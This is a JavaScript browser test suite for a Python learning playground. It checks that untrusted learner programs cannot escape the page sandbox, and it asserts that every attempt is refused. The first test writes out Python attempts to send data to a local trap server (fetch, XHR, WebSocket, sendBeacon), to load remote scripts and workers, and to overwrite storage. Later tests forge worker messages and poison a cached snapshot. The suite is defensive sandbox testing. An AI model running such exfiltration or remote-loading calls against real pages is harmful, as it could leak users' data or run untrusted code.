// A learner's program is untrusted code from a link. Each attack tried on the page's Python is run here, in
// headless Chromium, as an attacker would write it: the program must not reach the page's storage or the
// network except through the page, must not change what a later program sees, and whatever it prints or
// raises or breaks, the page lives, says what happened, and runs the next program.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import path from 'node:path';
import * as helpers from './helpers.mjs';
import { launchChromium, startDevServer, parseArgs } from '../tools/browser.mjs';

const args = parseArgs(process.argv.slice(2), { web: 'build/web-release', out: 'build/screenshots' });

let dev, browser, context, page, trap;
const trapped = [];  // every request that reached the second loopback server

before(async () => {
  dev = await startDevServer(path.resolve(args.web));
  // A second loopback server: where a program would send what it stole. Nothing may arrive.
  trap = http.createServer((req, res) => {
    trapped.push(req.url);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*' });
    res.end('ok');
  });
  trap.on('connection', () => trapped.push('(a connection)'));
  await new Promise((resolve) => trap.listen({ port: 0, host: '127.0.0.1' }, resolve));
  browser = await launchChromium();
  context = await browser.newContext();
  page = await helpers.openPlayground(context, dev.url);
});

after(async () => {
  await browser?.close();
  await dev?.close();
  await new Promise((resolve) => trap.close(resolve));
});

const runIn = (p, source, api = 'simulated') => p.evaluate(([s, a]) => window.playground.runProgram(s, { api: a }), [source, api]);
const run = (source, api) => runIn(page, source, api);
const lines = (...l) => `${l.join('\n')}\n`;

test('the program reaches neither the page\'s storage nor the network around the page', async () => {
  const trapUrl = `http://127.0.0.1:${trap.address().port}`;
  const r = await run(lines(
    'import js, asyncio',
    'from pyodide.ffi import run_sync',
    'said = []',
    'def attempt(name, f):',
    '    try:',
    '        f()',
    '        said.append(f"{name}: done")',
    '    except BaseException as e:',
    '        said.append(f"{name}: refused")',
    'attempt("caches", lambda: run_sync(js.caches.open("asyncplay-python")))',
    'attempt("indexedDB", lambda: js.indexedDB.open("x"))',
    'attempt("localStorage", lambda: js.localStorage.setItem("asyncplay.python-memory", "{}"))',
    'attempt("cookie", lambda: setattr(js.document, "cookie", "a=1"))',
    `attempt("js.fetch", lambda: run_sync(js.fetch("${trapUrl}/fetch")))`,
    `attempt("pyfetch", lambda: run_sync(__import__("pyodide.http").http.pyfetch("${trapUrl}/pyfetch")))`,
    'def xhr():',
    '    x = js.XMLHttpRequest.new()',
    `    x.open("GET", "${trapUrl}/xhr", False)`,
    '    x.send()',
    'attempt("XMLHttpRequest", xhr)',
    `attempt("importScripts", lambda: js.importScripts("${trapUrl}/script.js"))`,
    `attempt("import()", lambda: run_sync(js.eval("import('${trapUrl}/module.mjs')")))`,
    `attempt("Worker", lambda: js.Worker.new("${trapUrl}/worker.js"))`,
    `attempt("WebSocket", lambda: js.WebSocket.new("ws://127.0.0.1:${trap.address().port}/ws"))`,
    `attempt("sendBeacon", lambda: js.navigator.sendBeacon("${trapUrl}/beacon", "x"))`,
    'print("\\n".join(said))'));
  assert.equal(r.error, null, JSON.stringify(r.error));
  await page.waitForTimeout(500);  // (anything sent would have arrived by now)
  console.log(`# ${r.stdout.trim().split('\n').join('; ')}`);
  for (const line of r.stdout.trim().split('\n')) assert.match(line, /: refused$/, line);
  assert.deepEqual(trapped, [], 'nothing reached the second server');
  // The page's own storage is untouched.
  assert.notEqual(await page.evaluate(() => localStorage.getItem('asyncplay.python-memory')), '{}');
});

test('a program that patches Python changes nothing for the next one', async () => {
  const patched = await run(lines(
    'import builtins, httpx, sys, __main__',
    'httpx.Response.json = lambda self: {"forged": True}',
    'builtins.print = lambda *a, **k: None',
    'sys.modules["requests"] = None',
    '__main__.run_program = None',
    'import asyncio',
    'asyncio.sleep = None'));
  assert.equal(patched.error, null, JSON.stringify(patched.error));
  const next = await run(lines(
    'import asyncio, httpx, requests',
    'BASE = ""',
    'async def main():',
    '    async with httpx.AsyncClient() as c:',
    '        print((await c.get(f"{BASE}/api/delay/50")).json())',
    '    await asyncio.sleep(0.01)',
    'asyncio.run(main())'));
  assert.equal(next.error, null, JSON.stringify(next.error));
  assert.equal(next.stdout, "{'delay_ms': 50, 'status': 200}\n", 'httpx, print, requests and asyncio as they were');
  assert.ok(await page.evaluate(() => window.playground.pythonWorkers) <= 1, 'the patched worker is gone (at most a spare is left)');
});

test('Python\'s kept memory is used only as the page recorded it: replaced or damaged, it is dropped and made again', async () => {
  const c = await browser.newContext();
  const p = await helpers.openPlayground(c, dev.url);
  const first = await runIn(p, 'print("first")\n');
  assert.equal(first.stdout, 'first\n');
  // (Made in the background once nothing runs: its record first, then the memory itself.)
  await helpers.memoryKept(p);
  // Anyone but the page writes over the kept memory (a program cannot: the test above), here with bytes of
  // a memory that starts but is not the one recorded, and then with garbage.
  for (const poison of ['flip', 'garbage']) {
    await p.evaluate(async (how) => {
      const cache = await caches.open('asyncplay-python');
      const [key] = await cache.keys();
      const bytes = new Uint8Array(await (await cache.match(key)).arrayBuffer());
      if (how === 'flip') bytes[bytes.length >> 1] ^= 0xff;
      await cache.put(key, new Response(how === 'flip' ? bytes : new Uint8Array(1000)));
    }, poison);
    await p.reload();
    await p.evaluate(() => window.playground.ready);
    const r = await runIn(p, 'print("clean")\n');
    assert.equal(r.error, null, `${poison}: ${JSON.stringify(r.error)}`);
    assert.equal(r.stdout, 'clean\n');
    const boot = await p.evaluate(() => window.playground.pythonBoot);
    assert.equal(boot.phases.fromSnapshot, false, `${poison}: a memory the page did not record is not used`);
    await helpers.memoryKept(p);
  }
  // The memory made again is used again.
  await p.reload();
  await p.evaluate(() => window.playground.ready);
  await runIn(p, 'print(1)\n');
  assert.equal((await p.evaluate(() => window.playground.pythonBoot)).phases.fromSnapshot, true);
  await c.close();
});

test('huge texts are cut and said: a 20 MB error, a 140 MB print, and many megabyte errors in a row', async () => {
  const big = await run('print("before")\nraise ValueError("x" * 20_000_000)\n');
  assert.equal(big.error.line, 2, 'reported with its line, not as a run without an error');
  assert.match(big.error.message, /^ValueError: x{100}.*more characters cut\)$/s);
  assert.ok(big.error.message.length <= 4096 && big.error.traceback.length <= 32768);
  assert.equal(big.stdout, 'before\n');
  const printed = await run('import sys\nprint("a" * 140_000_000)\nprint("after")\nsys.stdout.write("still fine\\n")\n');
  assert.equal(printed.error, null, JSON.stringify(printed.error));
  assert.equal(printed.stdout.length, 1 << 20, 'the first megabyte kept');
  assert.equal(printed.stdoutCut.bytes, 140_000_001 + 'after\n'.length + 'still fine\n'.length - (1 << 20), 'the rest counted, to the byte');
  assert.equal(printed.stdoutCut.lines, 3);
  const shown = await page.evaluate(() => window.playground.shownRun());
  assert.equal(shown.state, 'finished');
  await page.screenshot({ path: path.join(args.out, 'program-output-cut.png') });
  const before = await page.evaluate(() => window.playground.heapBytes());
  for (let i = 0; i < 25; i++) {
    const r = await run('raise ValueError("x" * 7_500_000)\n');
    assert.match(r.error.message, /more characters cut/);
  }
  const grown = (await page.evaluate(() => window.playground.heapBytes())) - before;
  console.log(`# 25 errors of 7.5 MB: the page's heap grew ${(grown / 1048576).toFixed(2)} MB`);
  assert.ok(grown < 8 * 1048576, `each run keeps kilobytes, not megabytes: ${grown} bytes`);
  assert.equal((await run('print(6 * 7)\n')).stdout, '42\n');
});

test('a million prints reach the page in batches: it keeps drawing', async () => {
  await page.evaluate(() => {
    window.longTasks = [];
    window.taskObserver = new PerformanceObserver((list) => { for (const e of list.getEntries()) window.longTasks.push(e.duration); });
    window.taskObserver.observe({ type: 'longtask' });
  });
  const r = await run('for i in range(10**6):\n    print(i)\n');
  const tasks = await page.evaluate(() => { window.taskObserver.disconnect(); return window.longTasks; });
  assert.equal(r.error, null, JSON.stringify(r.error));
  assert.ok(r.stdoutCut.lines > 0 && r.stdout.startsWith('0\n1\n2\n'));
  const longest = Math.max(0, ...tasks);
  console.log(`# a million prints: ${tasks.length} main-thread tasks over 50 ms, the longest ${longest.toFixed(0)} ms`);
  assert.ok(longest < 400, `the page's thread was never held long: ${longest.toFixed(0)} ms`);
});

test('Python failing, a closed worker, a replaced handler and forged messages end the run with a sentence', async () => {
  const crash = await run('import sys\nsys.setrecursionlimit(10**6)\ndef f(n):\n    return f(n + 1) + 1\nf(0)\n');
  assert.ok(crash.error, 'the run ended with an error, not "Running..." forever');
  console.log(`# infinite recursion with no limit: ${crash.error.message.slice(0, 160)}`);
  const closed = await run('from pyodide.code import run_js\nrun_js("self.close()")\nprint("still here")\n');
  assert.equal(closed.error && closed.error.line, 2, JSON.stringify(closed.error));
  assert.match(closed.error.message, /a program cannot close its Python here/);
  const handler = await run('from pyodide.code import run_js\nrun_js("self.onmessage = () => {}")\nprint("set")\n');
  assert.equal(handler.stdout, 'set\n');
  const forged = await run(lines(
    'from pyodide.code import run_js',
    'try:',
    '    run_js("postMessage({runId: 1, type: \'done\', error: {line: 1n}})")',
    'except Exception as e:',
    '    print("refused")',
    'import js',
    'js.page_post(1, \'{"url": 5, "line": 1e300, "method": {"toString": null}}\')',
    'print("after")'));
  assert.equal(forged.stdout, 'refused\nafter\n', JSON.stringify(forged.error));
  // The next program runs as if nothing happened.
  const next = await run('print("next")\n');
  assert.equal(next.stdout, 'next\n');
  assert.equal(next.error, null);
});

test('Stop works from the moment Run is pressed, while Python starts too', async () => {
  const c = await browser.newContext();
  const p = await helpers.openPlayground(c, dev.url);
  const stopped = await p.evaluate(async () => {
    const t0 = performance.now();
    const pending = window.playground.runProgram('print("never")\n', { api: 'simulated' });
    await new Promise((r) => setTimeout(r, 50));
    const said = window.playground.stopProgram();
    const r = await pending;
    return { said, stopped: r.stopped, stdout: r.stdout, ms: performance.now() - t0 };
  });
  assert.equal(stopped.said, true, 'Stop found the program while Python was starting');
  assert.equal(stopped.stopped, true);
  assert.equal(stopped.stdout, '', 'it never ran');
  assert.ok(stopped.ms < 2000, `ended at once: ${stopped.ms.toFixed(0)} ms`);
  assert.equal((await runIn(p, 'print("runs")\n')).stdout, 'runs\n');
  await c.close();
});

test('a host page\'s command with values that cannot be read gets an error reply', async () => {
  const reply = await page.evaluate(() => new Promise((resolve) => {
    // (The test page is its own host: toHost posts to the parent, which is itself.)
    const f = document.createElement('iframe');
    f.src = `${location.origin}/index.html?embed=1`;
    document.body.appendChild(f);
    window.addEventListener('message', (e) => {
      if (e.source !== f.contentWindow || !e.data || e.data.source !== 'asyncplay') return;
      if (e.data.type === 'ready') f.contentWindow.postMessage({ target: 'asyncplay', type: 'set-lesson', id: 7, lesson: { toString: null } }, '*');
      if (e.data.type === 'error') resolve(e.data);
    });
  }).catch((e) => ({ failed: String(e) })));
  assert.equal(reply.id, 7);
  assert.equal(reply.command, 'set-lesson');
  assert.match(reply.message, /could not be read/);
});

test('a long link is explained in KB, and the dev server hands it to the page', async () => {
  const p = await helpers.openPlayground(context, `${dev.url}?lesson=limits&n=12&pad=${'x'.repeat(9500)}`);
  await p.waitForFunction(() => window.playground.lessonState().notes.length > 0, null, { timeout: 5000 });
  const notes = (await p.evaluate(() => window.playground.lessonState())).notes.join(' ');
  assert.match(notes, /the address's settings are 9 KB long; a playground link holds at most 8 KB/);
  await p.close();
});
